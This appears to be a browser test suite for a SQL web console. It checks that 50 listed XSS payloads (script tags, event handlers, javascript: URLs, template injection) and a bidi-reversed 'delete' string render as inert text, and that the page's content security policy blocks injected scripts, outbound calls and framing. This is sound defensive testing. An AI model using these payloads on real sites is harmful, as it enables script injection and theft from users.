// What others put into values, names, errors and SQL is text; and what the page may do is limited.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { controlUrl, hasCells, hasTexts, key, openBrowser, quoted, run, signedIn, sql, typeSql } from "./browser.mjs";

const SCRIPT = "window.pwned=1";
// Each would run if it were taken for HTML, for an address or for a part of an attribute.
const PAYLOADS = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=data:,${SCRIPT}></SCRIPT>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img src=x onerror="${SCRIPT}"/>`,
  `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`,
  `<svg onload=${SCRIPT}>`,
  `<svg/onload=${SCRIPT}//`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>#x"/></svg>`,
  `<body onload=${SCRIPT}>`,
  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<embed src="javascript:${SCRIPT}">`,
  `<a href="javascript:${SCRIPT}" autofocus onfocus=${SCRIPT}>x</a>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<select autofocus onfocus=${SCRIPT}>`,
  `<textarea autofocus onfocus=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}>`,
  `<marquee onstart=${SCRIPT}>`,
  `<style>@import 'javascript:${SCRIPT}';</style>`,
  `<style onload=${SCRIPT}></style>`,
  `<link rel=stylesheet href=data:text/css,*{} onload=${SCRIPT}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<base href="javascript:${SCRIPT}//">`,
  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
  `<math><mtext><script>${SCRIPT}</script></mtext></math>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `</title><script>${SCRIPT}</script>`,
  `</textarea><script>${SCRIPT}</script>`,
  `</style><script>${SCRIPT}</script>`,
  `</span></div><script>${SCRIPT}</script>`,
  `"><script>${SCRIPT}</script>`,
  `'><script>${SCRIPT}</script>`,
  `" onmouseover="${SCRIPT}" x="`,
  `' onfocus='${SCRIPT}' autofocus='`,
  `javascript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `<!--><script>${SCRIPT}</script>-->`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&#60;script&#62;${SCRIPT}&#60;/script&#62;`,
  `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  `<x contenteditable onblur=${SCRIPT} tabindex=0 id=x autofocus onfocus=${SCRIPT}>`,
];

let browser;
let page;
before(async () => {
  browser = await openBrowser();
  page = await signedIn(browser);
});
after(() => browser.close());

const isUnharmed = async () => {
  assert.equal(await page.evaluate("window.pwned"), undefined);
  assert.equal(
    await page.locator(".grid script, .grid img, .grid svg, .grid iframe, .failure img, .failure script").count(),
    0,
  );
};

test("50 payloads in values are shown as text, also when a cell is opened", async () => {
  assert.equal(new Set(PAYLOADS).size, 50);
  await page.setViewportSize({ width: 1440, height: 2200 });
  await run(page, `select v from (values ${PAYLOADS.map((each) => `(${quoted(each)})`).join(",\n")}) t (v)`);
  await page.getByText("50 rows").waitFor();
  await hasCells(page, PAYLOADS);
  await page.getByRole("gridcell").nth(2).dblclick();
  assert.equal(await page.locator(".cell-view pre").innerText(), PAYLOADS[2]);
  await isUnharmed();
});

test("so they are in names of columns, in errors, notices and the history", async () => {
  const names = PAYLOADS.map((each, i) => `1 as "${`${i} ${each}`.replaceAll('"', '""').slice(0, 60)}"`);
  await run(page, `select ${names.join(", ")}`);
  await page.getByText("1 row ·").waitFor();
  assert.equal(await page.getByRole("columnheader", { name: "0 <script>" }).count(), 1);
  // One of each kind: the text takes the same way for all.
  for (const payload of PAYLOADS.filter((_, i) => i % 5 === 0)) {
    await run(page, `select ${quoted(payload)}::int`);
    await page
      .getByRole("alert")
      .filter({ hasText: payload.slice(0, 30).trim() })
      .waitFor();
  }
  await run(page, `do $$ begin raise notice '%', ${quoted(PAYLOADS[2])}; end $$`);
  await page.getByRole("list", { name: "Notices" }).getByText(PAYLOADS[2]).waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.getByRole("complementary", { name: "History" }).getByText("<script>").first().waitFor();
  await isUnharmed();
});

test("what turns text round, or is not seen, is marked in values, names, errors, previews and the history", async () => {
  const turned = "\u202e\u2066;1=di erehw elbat morf eteled\u2069";
  const shown = "U+202EU+2066;1=di erehw elbat morf eteledU+2069";
  const unmarked = () => page.evaluate(() => /[\u202e\u2066\u2069]/.test(document.body.innerText));
  await run(page, `select 1 as "a\u202eb", ${quoted(turned)} as v`);
  await page.getByRole("gridcell", { name: shown }).waitFor();
  await page.getByRole("columnheader", { name: "aU+202Eb" }).waitFor();
  await page.getByRole("gridcell", { name: shown }).dblclick();
  assert.equal(await page.locator(".cell-view pre").innerText(), shown);
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await run(page, `select ${quoted(turned)}::int`);
  await page.getByRole("alert").filter({ hasText: shown }).waitFor();
  await page.getByRole("complementary", { name: "History" }).getByText(shown).first().waitFor();
  assert.equal(await unmarked(), false);
  await typeSql(page, "select 1 -- \u202e\u180e\u{e0041}");
  const inEditor = page.locator(".sql-field .unseen-character");
  await hasTexts(inEditor, ["U+202E", "U+180E", "U+E0041"]);
  // A joiner is marked until what it joins is there, and again when that is gone.
  await typeSql(page, "select 'users\u034f', 'می\u200c");
  await hasTexts(inEditor, ["U+034F", "U+200C"]);
  await page.keyboard.insertText("ش");
  await hasTexts(inEditor, ["U+034F"]);
  await page.keyboard.press("Backspace");
  await hasTexts(inEditor, ["U+034F", "U+200C"]);
  const name = 'public."turned \u202e"';
  await sql(`create table ${name} (id int primary key, v text default ${quoted(turned)})`);
  await sql(`insert into ${name} values (1)`);
  await page.getByRole("link", { name: "Tables" }).click();
  await page.getByRole("button", { name: "turned U+202E" }).click();
  await page.getByRole("gridcell", { name: shown }).click();
  await page.getByRole("button", { name: "Delete row" }).click();
  await page.getByRole("button", { name: "Review 1 change" }).click();
  await page.locator(".preview").getByText(shown).waitFor();
  assert.equal(await unmarked(), false);
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText("1 change saved.").waitFor();
  // What was sent is as it was.
  assert.deepEqual(await sql(`select id from ${name}`), []);
  await page.getByRole("tab", { name: "Structure" }).click();
  await page.getByText(shown).waitFor();
  assert.equal(await unmarked(), false);
  await sql(`drop table ${name}`);
  await page.getByRole("link", { name: "Query" }).click();
});

test("so they are in names of tables that are completed", async () => {
  await sql('create table "<img src=x onerror=window.pwned=1>" ("<script>window.pwned=1</script>" int)');
  let answer;
  const asked = new Promise((resolve) => {
    answer = resolve;
  });
  await page.route("**/tables?*", async (route) => {
    await asked;
    await route.continue();
  });
  await page.reload();
  await typeSql(page, "select * from ");
  await page.keyboard.press("Control+Space");
  // The list opens with the keywords, and the tables come when they are known.
  const list = page.locator(".cm-tooltip-autocomplete");
  await list.getByRole("option").first().waitFor();
  const table = list.getByRole("option", { name: /<img src=x/ });
  assert.equal(await table.count(), 0);
  answer();
  await table.waitFor();
  await isUnharmed();
  await page.keyboard.press("Escape");
  await sql('drop table "<img src=x onerror=window.pwned=1>"');
});

test("a script that someone gets into the page does not run, and can't call home", async () => {
  let calls = 0;
  const home = createServer((_, response) => {
    calls += 1;
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end();
  });
  await new Promise((resolve) => home.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${home.address().port}/?token`;
  // It is there, and answers who may ask.
  assert.equal((await fetch(url)).status, 200);
  const seen = await page.evaluate(async (address) => {
    const refused = new Set();
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.add(effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.pwned = 1";
    document.body.append(script);
    const image = document.createElement("div");
    image.innerHTML = "<img src=x onerror='window.pwned = 1'>";
    document.body.append(image);
    const sent = await fetch(address).then(
      () => "sent",
      () => "refused",
    );
    while (!refused.has("connect-src")) await new Promise(requestAnimationFrame);
    return { sent, pwned: window.pwned ?? null };
  }, url);
  assert.deepEqual(seen, { sent: "refused", pwned: null });
  assert.equal(calls, 1);
  home.close();
});

test("no other page can frame the console", async () => {
  const server = createServer((_, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end(`<iframe src="${controlUrl}/console" width=800 height=600></iframe>`);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const other = await page.context().newPage();
  const refused = other.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
  await other.goto(`http://127.0.0.1:${server.address().port}/`);
  await refused;
  assert.equal(await other.frameLocator("iframe").getByLabel("API key").count(), 0);
  await other.close();
  server.close();
});

test("neither the key nor the token was in an address", () => {
  assert.deepEqual(
    page.asked.filter((url) => url.includes("svc_") || url.includes(key)),
    [],
  );
  assert.deepEqual([...new Set(page.asked.map((url) => new URL(url).hostname))], [new URL(controlUrl).hostname]);
});
